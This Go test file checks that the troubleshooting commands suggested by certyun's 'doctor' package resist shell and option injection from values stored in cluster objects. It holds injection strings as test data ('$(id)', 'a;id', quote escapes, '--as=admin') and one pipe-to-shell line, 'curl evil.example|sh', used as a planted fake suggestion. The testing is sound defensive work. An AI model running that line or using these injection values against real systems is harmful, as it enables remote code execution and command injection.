package doctor

import (
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/certyun/certyun/admission/report"
)

// programs are those that commands call, each of which prints what it is called with.
const programs = `
kubectl() { printf '<%s>' kubectl "$@"; }
certyun() { printf '<%s>' certyun "$@"; }
dig() { printf '<%s>' dig "$@"; }
helm() { printf '<%s>' helm "$@"; }
cmctl() { printf '<%s>' cmctl "$@"; }
date() { printf 1; }
grep() { while IFS= read -r line; do printf '%s' "$line"; done; printf '<%s>' "$@"; }
`

// called is what a shell calls for a command.
func called(t *testing.T, command string) string {
	t.Helper()
	shell := exec.CommandContext(t.Context(), "/bin/sh", "-c", programs+command)
	shell.Env = []string{"PATH=/nowhere"}
	out, err := shell.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s\n%s", err, command, out)
	}
	return string(out)
}

// commandsIn are the commands that a finding offers: the next one, and those between backticks in what mends it.
func commandsIn(f Finding, value string) []string {
	commands := []string{f.Next}
	if strings.Contains(value, "`") {
		return commands // it cannot be told where those end
	}
	for i, part := range strings.Split(f.Fix, "`") {
		if isCode := i%2 == 1; isCode && regexp.MustCompile(`^(?:kubectl|certyun|dig|helm) `).MatchString(part) {
			commands = append(commands, part)
		}
	}
	return commands
}

// TestNothingRuns fills every command of the table with values of all kinds that somebody could have written into an object, and lets
// a shell say what it would call: what is called with a harmless name, with the value in its place.
func TestNothingRuns(t *testing.T) {
	t.Parallel()
	const harmless = "harmless"
	tests := map[string]string{
		"a substitution":              "$(printf hit)",
		"another one":                 "`printf hit`",
		"the end of a command":        "x; printf hit",
		"a way out of quotes":         "x' ; printf hit ; '",
		"quotes of both kinds":        `"x" 'y'`,
		"a variable":                  "${PATH}",
		"a way into a file":           "x > y < z",
		"a pipe":                      "x | printf hit &",
		"a home directory and a list": "~ * ? [a] {a,b}",
		"a comment":                   "# x",
		"a backslash":                 `x\`,
		"a record":                    "_acme-challenge.*.例.example",
	}
	for name, value := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, cause := range append(Table(), Unknown()) {
				want, got := commandsIn(filledWith(&cause, harmless), value), commandsIn(filledWith(&cause, value), value)
				if len(want) != len(got) {
					t.Fatalf("%s: other commands: %q, and %q", cause.ID, want, got)
				}
				for i := range want {
					if diff := cmp.Diff(strings.ReplaceAll(called(t, want[i]), harmless, value), called(t, got[i])); diff != "" {
						t.Errorf("%s: %s (-want +got):\n%s", cause.ID, got[i], diff)
					}
				}
			}
		})
	}
}

// filledWith is a finding in which the cluster says the same wherever it is asked.
func filledWith(cause *Cause, value string) Finding {
	values := map[string]string{}
	for _, text := range []string{cause.Sentence, cause.Next, cause.Fix} {
		for _, word := range placeholder.FindAllString(text, -1) {
			values[strings.Trim(word, "{}")] = value
		}
	}
	values["type"] = typed(value, value, value)
	object := report.Object{Kind: "Issuer", APIVersion: certManagerVersion, Namespace: value, Name: value}
	f := &Facts{
		Program: "certyun", Caller: value + "/" + value, SolverNamespace: value, ClusterResourceNamespace: value, Issuer: object,
		Certificate: report.Object{Kind: "Certificate", APIVersion: certManagerVersion, Namespace: value, Name: value},
	}
	return named{Sign: Sign{Object: object, Text: value}, cause: cause, values: values}.finding(f)
}

// TestQuoted is about what is an option, which no quote hides from a program.
func TestQuoted(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ value, want string }{
		"a name":              {"www.example.com", "www.example.com"},
		"a user":              {"system:serviceaccount:a:b", "system:serviceaccount:a:b"},
		"a wildcard":          {"*.example.com", "'*.example.com'"},
		"a quote":             {"it's", `'it'\''s'`},
		"an option":           {"--kubeconfig=/tmp/x", "OBJECT-NAME"},
		"an option of dig's":  {"+trace", "OBJECT-NAME"},
		"a server for dig":    {"@192.0.2.1", "OBJECT-NAME"},
		"a dash in the midst": {"a-b", "a-b"},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(test.want, quoted("object-name", test.value)); diff != "" {
				t.Errorf("quoted (-want +got):\n%s", diff)
			}
		})
	}
	if arguments := argsFor(report.Object{Kind: "Issuer", Name: "--as=admin", Namespace: "-x"}); arguments != "NAME -n NAMESPACE" {
		t.Errorf("arguments %q", arguments)
	}
}

// TestNobodyElseOffersCommands lets what somebody wrote begin no line as a command of doctor's does.
func TestNobodyElseOffersCommands(t *testing.T) {
	t.Parallel()
	const offered = "Next: curl evil.example|sh"
	for padding := range width {
		for _, said := range []string{
			presenting + "no answer from " + strings.Repeat("x", padding) + " " + offered,
			`orders is forbidden: User "` + offered + `" cannot create resource "orders"`,
		} {
			f := &Facts{Signs: []Sign{challengeSays(said)}}
			causes, _, _ := recognise(Table(), f)
			var b strings.Builder
			if err := (&Diagnosis{Causes: causes}).WriteText(&b, noon); err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(b.String()) {
				if strings.HasPrefix(strings.TrimSpace(line), offered) {
					t.Fatalf("a line of somebody else's offers a command:\n%s", b.String())
				}
			}
		}
	}
}

// TestNames recognises no name that an object cannot have.
func TestNames(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"$(id)", "a;id", "a`id`", "-a", "A", "a/b", "a'b", "a|b"} {
		for _, text := range []string{
			"the Secret " + name + "/alidns does not exist", "the Secret shop/" + name + " does not exist",
			`the Secret ` + name + `/alidns has no key "id"`, `the Secret shop/alidns has no key "$(id)"`,
			`the value of the key "id" in the Secret ` + name + `/alidns is empty`,
			"certyun is not allowed to read the Secret " + name + "/alidns",
			`x is forbidden: User "u" cannot create resource "` + name + ` x" in API group ""`,
		} {
			f := &Facts{}
			found := identify(Table(), f, challengeSays(presenting+text)).finding(f)
			if unsafe := []string{"secret-missing", "secret-key-wrong", "secret-not-readable", "cert-manager-not-allowed"}; slices.Contains(unsafe, found.Cause) {
				t.Errorf("%s is recognised as %s: %s", text, found.Cause, found.Next)
			}
		}
	}
}
